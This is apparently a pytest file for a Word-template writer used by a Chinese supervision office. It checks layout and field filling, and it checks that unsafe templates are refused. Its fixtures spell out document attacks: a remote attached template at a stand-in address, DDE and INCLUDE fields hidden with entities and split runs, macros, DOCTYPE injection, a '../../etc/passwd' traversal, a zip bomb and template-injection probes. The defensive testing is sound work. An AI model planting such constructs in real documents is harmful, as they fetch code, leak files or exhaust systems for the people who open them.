"""The Word templates: laid out after GB/T 9704, changed by an office, refused where unsafe."""

import io
import zipfile
from pathlib import Path

import docx
import pytest

from cli.main import run
from duban.papers.archive import UnsafeTemplate, refuse_unsafe
from duban.papers.layout import template
from duban.papers.markup import form
from duban.papers.places import UnknownField
from duban.papers.values import PaperValues, Row, Step, names
from duban.papers.write import BadTemplate, Template, template_for, write_paper
from duban.vocabulary.papers import FormalKind, PageLayout
from tests.papers.words import lines_of, text_of

NOWHERE = Path("nowhere")
ORDER = FormalKind.SUPERVISION_ORDER
VALUES = PaperValues(
    office="督查办", number="青督通〔2022〕3号", to="科技局", title="建成一处示范点", code="2022-0001",
    quote="月底前建成一处示范点", due_words="2022年8月31日（周三）",
    handling=(Step("8月24日", "临期提醒 N2022-0001", "8月24日9时已送达"), Step("8月26日", "临期问询")),
    rows=(Row("2022-0001", "建成一处示范点"), Row("2022-0002", "引进一家企业")),
)  # fmt: skip


def with_part(data: bytes, name: str, change) -> bytes:
    """The archive with one part changed, or added where it was not there."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for part in old.namelist():
            content = old.read(part)
            new.writestr(part, change(content) if part == name else content)
        if name not in old.namelist():
            new.writestr(name, change(b""))
    return out.getvalue()


def with_text(text: str, kind: FormalKind = ORDER) -> Template:
    """A template an office wrote a line into."""
    document = docx.Document(io.BytesIO(template(kind)))
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return Template("own.docx", out.getvalue())


@pytest.mark.parametrize("kind", FormalKind)
def test_every_paper_has_its_page(kind):
    """A4 with the margins of the standard; the breakdown lies across A3."""
    section = docx.Document(io.BytesIO(template(kind))).sections[0]
    size = round(section.page_width.mm), round(section.page_height.mm)

    assert size == ((420, 297) if kind.page is PageLayout.WIDE else (210, 297))
    if kind.page is PageLayout.LETTER:
        margins = (section.top_margin, section.left_margin, section.bottom_margin)
        assert [round(edge.mm) for edge in margins] == [37, 28, 35]


@pytest.mark.parametrize("kind", FormalKind)
def test_a_form_uses_only_styles_that_are_defined(kind):
    """A word mistyped in a form would else print as plain text."""
    styles = {style.name for style in docx.Document(io.BytesIO(template(kind))).styles}

    assert {block.style for block in form(kind) if hasattr(block, "style")} - {"%"} <= styles


@pytest.mark.parametrize("kind", FormalKind)
def test_a_paper_of_nothing_can_be_written(kind):
    """An unknown value leaves an empty place, never a word of the machine."""
    text = text_of(write_paper(PaperValues(), template_for(kind, NOWHERE)))

    assert "{" not in text
    assert "None" not in text


def test_values_stand_where_the_template_names_them():
    """Fields, conditions and loops of a template are filled in."""
    said = lines_of(write_paper(VALUES, template_for(ORDER, NOWHERE)))

    assert "青督通〔2022〕3号" in said
    assert "建成一处示范点（2022-0001）。" in said
    assert "8月24日　临期提醒 N2022-0001（8月24日9时已送达）" in said
    assert "8月26日　临期问询" in said


def test_a_row_of_a_table_repeats():
    """The breakdown has a row a matter, under titles repeated on each page."""
    table = docx.Document(
        io.BytesIO(write_paper(VALUES, template_for(FormalKind.BREAKDOWN, NOWHERE)))
    ).tables[0]

    assert [row.cells[1].text for row in table.rows] == ["编号", "2022-0001", "2022-0002"]


def test_equal_values_give_equal_bytes():
    """The hash in the register is that of the file, whenever it is made again."""
    given = template_for(ORDER, NOWHERE)

    assert write_paper(VALUES, given) == write_paper(VALUES, given)


def test_what_people_write_is_no_markup():
    """Angle brackets, braces, control characters of an answer are printed or dropped, not run."""
    values = PaperValues(title="<w:p>{{ 7 }}&\x0b尾")

    assert "<w:p>{{7}}&尾（）" in text_of(write_paper(values, template_for(ORDER, NOWHERE)))


def test_an_office_has_its_own(tmp_path):
    """A template in the folder of the home is used in place of the one that comes along."""
    (tmp_path / "supervision-order.docx").write_bytes(with_text("本单位专用：{{ 事项 }}").data)

    assert "本单位专用：建成一处示范点" in text_of(
        write_paper(VALUES, template_for(ORDER, tmp_path))
    )


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("完成：{{ 办结情况 }}", "段“完成：{{ 办结情况 }}”：办结情况"),
        ("{% for 步 in 办理情况 %}{{ 步.时间 }}{% endfor %}", "：时间"),
        ("{{ 事项.长度 }}", "：长度"),
        ("{{ cycler }}", "：cycler"),
    ],
)
def test_an_unknown_field_is_named_with_its_place(text, said):
    """Whoever mends it in WPS finds the paragraph by its number and its words."""
    with pytest.raises(UnknownField, match="没有这样的字段") as told:
        write_paper(VALUES, with_text(text))

    assert said in str(told.value)


def test_a_field_nearly_right_is_suggested():
    """A letter missed is the usual mistake."""
    with pytest.raises(UnknownField, match="是否应为“牵头单位”"):
        write_paper(VALUES, with_text("{{ 牵头 }}"))


@pytest.mark.parametrize(
    "text",
    [
        "{% if 事项 %}没有结束",
        "{{ 事项.__class__ }}",
        "{{ 事项.upper() }}",
        "{{ 事项 * 999999999 }}",
        "{{ 事项|center(9) }}",
        "{% include '正文' %}",
    ],
)
def test_a_template_can_only_print(text):
    """No call, no attribute of Python, no arithmetic, no other file: a sentence, never a fault."""
    with pytest.raises((BadTemplate, UnknownField), match=r"own\.docx：.*"):
        write_paper(VALUES, with_text(text))


RELATION = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://203.0.113.7/x.dotm" TargetMode="External"/>'
)
SPACE = b"http://schemas.openxmlformats.org/package/2006/relationships"
RELS, TYPES, BODY = "word/_rels/document.xml.rels", "[Content_Types].xml", "word/document.xml"


@pytest.mark.parametrize(
    ("part", "change", "said"),
    [
        ("word/vbaProject.bin", lambda _: b"x", "含宏"),
        (TYPES, lambda c: c.replace(b"document.main+xml", b"document.macroEnabled.main+xml"), "含宏"),
        (RELS, lambda c: c.replace(b"</Relationships>", RELATION + b"</Relationships>"),
         "203.0.113.7"),
        ("word/embeddings/sheet.xlsx", lambda _: b"x", "内嵌"),
        (BODY, lambda c: c.replace(b"<w:body>", b"<!DOCTYPE x><w:body>"), "文档类型"),
        (BODY, lambda c: c.replace(b"<w:body>", b"<w:p><w:r><w:instrText> INCLUDETEXT x"
                                   b"</w:instrText></w:r></w:p><w:body>"), "INCLUDETEXT"),
        ("word/media/a.bin", lambda _: b"\0" * 41_000_000, "过大"),
        (BODY, lambda _: b"<w:document", "损"),
    ],
)  # fmt: skip
def test_an_unsafe_file_is_refused(part, change, said):
    """Macros, outside sources, embedded files and bombs are named; nothing of them is opened."""
    with pytest.raises(UnsafeTemplate, match=said):
        write_paper(VALUES, Template("own.docx", with_part(template(ORDER), part, change)))


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        pytest.param(b"External", b"&#69;xternal", "203.0.113.7", id="as an entity"),
        pytest.param(b"x.dotm", b"x>y", "203.0.113.7", id="behind an angle"),
        pytest.param(b"<Relationship ", b"<q:Relationship xmlns:q='" + SPACE + b"' ", "203.0.113.7",
                     id="under a prefix"),
        pytest.param(b"attachedTemplate", b"aFChunk", "内嵌", id="another file by its relation"),
    ],
)  # fmt: skip
def test_what_lies_outside_is_found_however_it_is_written(before, after, said):
    """A relation is read as Word reads it, not as it looks."""
    relation = RELATION.replace(before, after)

    def change(part: bytes) -> bytes:
        return part.replace(b"</Relationships>", relation + b"</Relationships>")

    with pytest.raises(UnsafeTemplate, match=said):
        refuse_unsafe(with_part(template(ORDER), RELS, change), "own.docx")


@pytest.mark.parametrize(
    ("field", "said"),
    [
        (b"<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r>"
         b"<w:r><w:instrText>PICTURE x</w:instrText></w:r></w:p>", "INCLUDEPICTURE"),
        (b"<w:fldSimple w:instr='&#68;DE x'/>", "DDE"),
    ],
)  # fmt: skip
def test_a_field_that_fetches_is_found_in_pieces(field, said):
    """The field that Word puts together of runs and entities is judged as Word reads it."""

    def change(part: bytes) -> bytes:
        return part.replace(b"<w:body>", b"<w:body>" + field)

    with pytest.raises(UnsafeTemplate, match=said):
        refuse_unsafe(with_part(template(ORDER), BODY, change), "own.docx")


@pytest.mark.parametrize(
    ("part", "before", "after"),
    [
        pytest.param(TYPES, b"wordprocessingml.document.main",
                     b"spreadsheetml.sheet.main", id="a sheet"),
        pytest.param("_rels/.rels", b"word/document.xml",
                     b"../../etc/passwd", id="a part elsewhere"),
        pytest.param("_rels/.rels", b"officeDocument\"", b"other\"", id="no document"),
        pytest.param(BODY, b"w:body", b"w:other", id="no body"),
    ],
)  # fmt: skip
def test_an_archive_that_only_looks_like_a_word_file_is_refused(part, before, after):
    """In a sentence, wherever Word would find nothing to open."""
    torn = with_part(template(ORDER), part, lambda content: content.replace(before, after))
    with pytest.raises(UnsafeTemplate, match="不是 Word 文件"):
        refuse_unsafe(torn, "own.docx")


def test_a_part_in_another_encoding_is_refused():
    """The text searched is the one others will read; the name of a part changes nothing."""
    wide = "<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE x><x/>".encode("utf-16")
    with pytest.raises(UnsafeTemplate, match="UTF-8"):
        refuse_unsafe(with_part(template(ORDER), "word/notes.part", lambda _: wide), "own.docx")


@pytest.mark.parametrize("data", [b"", b"%PDF-1.7", b"PK\x03\x04", b"\0" * 5_000_001])
def test_no_word_file_is_refused(data):
    """A file that is no .docx is told in a sentence."""
    with pytest.raises(UnsafeTemplate, match=r"^own\.docx"):
        write_paper(VALUES, Template("own.docx", data))


def test_templates_are_written_once(tmp_path, capsys):
    """A template that an office changed stays when the templates are written again."""
    own = tmp_path / "supervision-order.docx"
    own.write_bytes(with_text("本单位专用").data)

    assert run(["papers", "templates", "--out", str(tmp_path)]) == 0
    assert "本单位专用" in text_of(own.read_bytes())
    assert len(FormalKind) == len(list(tmp_path.glob("*.docx")))
    assert "已有 1 个未动" in capsys.readouterr().out


def test_a_template_is_checked_before_it_is_used(tmp_path, capsys):
    """The command tells that it is sound, or what is wrong where, with exit code 2."""
    own = tmp_path / "supervision-order.docx"
    own.write_bytes(with_text("{{ 不存在 }}").data)

    assert run(["papers", "check", str(own)]) == 2
    assert "“{{ 不存在 }}”：不存在" in capsys.readouterr().err
    own.write_bytes(template(ORDER))
    assert run(["papers", "check", str(own)]) == 0


def test_every_field_of_a_template_is_told_in_the_documentation():
    """An office looks the names up there."""
    page = (Path(__file__).parents[2] / "docs" / "papers-word.md").read_text("utf-8")
    missing = [
        name for group in names().values() for name in group.values() if f"`{name}`" not in page
    ]

    assert missing == []
